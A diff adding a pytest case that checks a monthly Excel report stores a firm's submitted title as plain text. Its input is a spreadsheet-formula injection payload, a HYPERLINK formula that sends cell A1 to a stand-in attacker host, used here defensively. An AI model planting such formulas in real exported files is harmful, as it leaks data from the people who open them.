@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import zipfile
 from dataclasses import dataclass
 from typing import Any
 from zoneinfo import ZoneInfo
@@ -326,3 +327,23 @@ def test_desk_stats_api_and_dashboard_agree_on_who_sees_desk_figures(
     assert (api.status_code == 200) == sees_panel == (role in stats.STATS_ROLES), (api.status_code, page.status_code)
     if sees_panel:
         assert api.json()["total"] == page.json()["desk"]["total"]
+
+
+def test_monthly_report_writes_firm_text_as_text_never_a_formula(month: Month) -> None:
+    """A firm's title led by "=" stays a string cell in 热点诉求; control characters do not break the file."""
+    firm = principal_for_user(factories.make_user(month.db, role=Role.enterprise))
+    hostile = '=HYPERLINK("http://evil.example/?q="&A1,"点我查看补贴")\x0b\x1f'
+    for n, content in enumerate(RENT[:3]):
+        _submit(
+            month.db, month.settings, firm, at(10 + n, 10), kind="help", channel="web", title=hostile, content=content
+        )
+    data = stats.monthly_report(db=month.db, calendar=CAL, month="2026-03", now=NOW)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert not any("<f>" in xml or "<f " in xml for xml in sheets), "a cell was written as a formula"
+    book = load_workbook(io.BytesIO(data))
+    cells = [c for row in book["热点诉求"].iter_rows() for c in row if "HYPERLINK" in str(c.value)]
+    assert cells, "the hostile title is not in the hot-topic sheet"
+    for cell in cells:
+        assert cell.data_type == "s" and cell.quotePrefix
+        assert cell.value == '=HYPERLINK("http://evil.example/?q="&A1,"点我查看补贴")'
